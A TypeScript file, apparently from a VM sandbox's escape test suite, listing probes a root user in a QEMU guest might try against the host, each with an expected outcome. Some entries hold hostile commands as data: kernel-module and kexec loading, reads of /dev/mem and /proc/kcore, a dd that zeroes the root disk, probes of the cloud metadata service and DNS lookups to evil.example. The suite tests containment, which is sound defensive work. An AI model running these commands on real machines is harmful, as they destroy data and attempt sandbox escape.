/** G6, from root in the guest to the host: what the machine is made of, and what is left when the inner wall is gone. */

import type { HostCheck, Vector } from "../vector.ts"

export const hostVectors: readonly Vector[] = [
  {
    ...root("90-as-proxy-user", "root as the capture proxy's user, straight at the gateway", "403"),
    how: gateway("{m}.evil.example"),
  },
  {
    ...flushed("90-flush-then-tcp", "TCP to a public address, without the packet filter"),
    how: { kind: "tcp", host: "1.1.1.1", port: 22 },
  },
  {
    ...flushed("90-flush-then-https", "port 443 of a public address, without the packet filter"),
    how: { kind: "tcp", host: "93.184.216.34", port: 443 },
  },
  {
    ...flushed("90-flush-then-udp", "UDP to a public address, without the packet filter"),
    how: { kind: "udp", host: "1.1.1.1", port: 443 },
  },
  {
    ...flushed("90-flush-then-dns", "a question to a public resolver, without the packet filter"),
    how: { kind: "dns", name: "{m}.evil.example", server: "8.8.8.8" },
  },
  {
    ...flushed("90-flush-then-host", "a port of the host, without the packet filter"),
    how: { kind: "tcp", host: "10.0.2.2", port: "{canary}" },
  },
  {
    ...flushed("90-flush-then-metadata", "the metadata service, without the packet filter"),
    how: { kind: "tcp", host: "169.254.169.254", port: 80 },
  },
  {
    ...flushed("90-flush-then-gateway", "the gateway, without the packet filter"),
    how: gateway("{m}.evil.example"),
    seenIn: "lensapp/lens-sandbox#179: root that kept CAP_NET_ADMIN turned policy and audit off",
  },
  shell(
    "91-load-module",
    "a kernel module",
    "insmod /tmp/x.ko; modprobe tun; echo 0 > /proc/sys/kernel/modules_disabled",
  ),
  shell(
    "91-kernel-memory",
    "the kernel's memory",
    "head -c 16 /dev/mem; head -c 16 /proc/kcore; echo {m} > /dev/kmem",
  ),
  shell("91-kexec", "another kernel", "kexec -l /dev/null; echo 0 > /proc/sys/kernel/kexec_load_disabled"),
  shell(
    "91-root-disk",
    "bytes written to the root disk and to the image's files",
    "dd if=/dev/zero of=/dev/vda bs=512 count=1 conv=notrunc; echo {m} > /usr/x",
  ),
  check("91-image-unchanged", "the image's files, after all that", "image-unchanged"),
  check(
    "94-qemu-confined",
    "QEMU's rights: no capability, seccomp, no new privileges, namespaces of its own",
    "qemu-confined",
  ),
  {
    ...root("94-device-fuzzing", "malformed descriptors for QEMU's virtio devices", "NP"),
    how: { kind: "none" },
    reason:
      "it needs a driver of its own, and the image loads no module; what a hole in QEMU would meet is checked by 94-qemu-confined",
  },
  {
    ...root("95-vsock-to-host", "AF_VSOCK to the host", "ABS"),
    how: {
      kind: "calls",
      calls: [
        { number: 41, args: [40, 1, 0] },
        { number: 42, args: ["{result:0}", "28000000160000000200000000000000", 16] },
      ],
    },
  },
  {
    ...root("95-gateway-garbage", "what is not HTTP/2, at the gateway", "REF"),
    how: { kind: "gateway-bytes", hex: "16030100".padEnd(2048, "5a") },
  },
  {
    ...root("95-gateway-frames", "HTTP/2 frames that no client sends", "REF"),
    how: {
      kind: "gateway-bytes",
      hex: `505249202a20485454502f322e300d0a0d0a534d0d0a0d0a${"000000040000000000"}${"000005ff0700000001aaaaaaaaaa".repeat(20)}`,
      repeat: 3,
    },
  },
  check(
    "97-no-shares",
    "folders shared with the host",
    "qemu-arguments",
    "agentcage#170, agents-sandbox#39, sandy#82, #209, headlong#72: mounts and hooks that ran on the host later",
  ),
  check(
    "99-disk-formats",
    "the format of each disk is said, so that no header is believed",
    "qemu-arguments",
  ),
  check("100-disk-not-mounted", "the guest's disk, mounted by the host", "disk-not-mounted"),
  {
    ...root("101-console-flood", "a flood on the console", "GST"),
    how: {
      kind: "shell",
      script: "head -c 300000 /dev/zero | tr '\\0' x > /dev/console",
      deadlineMs: 20_000,
    },
  },
  check("101-console-bounded", "the console's log, after that", "console-bounded"),
  {
    ...root("102-monitor", "QEMU's monitor, by the network", "REF"),
    how: { kind: "tcp", host: "10.0.2.2", port: 4444 },
  },
  check("102-qemu-namespace", "QEMU's network: no card, no socket, no byte", "qemu-namespace"),
  check("104-no-published-port", "ports of the guest on the host", "qemu-arguments"),
  {
    ...root("105-ssh-forwarding", "forwarding of agent, X11 and ports by the guest's sshd", "NP"),
    how: { kind: "none" },
    reason:
      "stereo's own ssh client asks for one command and offers no agent, no X11 and no port; a guest that offers more is not asked. Terminal sequences of a command on a terminal are the command's own",
  },
  check("106-host-socket", "the host service's socket and the machine's, for other users", "sockets-private"),
  {
    ...root("108-cpu-side-channels", "side channels of the CPU", "NP"),
    how: { kind: "none" },
    reason:
      "they belong to the host's kernel and CPU; under TCG QEMU itself promises no isolation, and `stereo doctor` and the machine's record say so",
  },
]

function root(id: string, title: string, expected: Vector["expected"]) {
  return { id, group: "G6" as const, title, from: ["root"] as const, expected }
}

function flushed(id: string, title: string) {
  return { ...root(id, title, "GST"), flushed: true }
}

function shell(id: string, title: string, script: string): Vector {
  return { ...root(id, title, "GST"), how: { kind: "shell", script } }
}

function check(id: string, title: string, name: HostCheck, seenIn?: string): Vector {
  const vector = { ...root(id, title, "ABS"), how: { kind: "host", check: name } as const }
  return seenIn === undefined ? vector : { ...vector, seenIn }
}

function gateway(authority: string): Vector["how"] {
  return {
    kind: "gateway",
    headers: { ":method": "GET", ":scheme": "https", ":authority": authority, ":path": "/{m}" },
  }
}
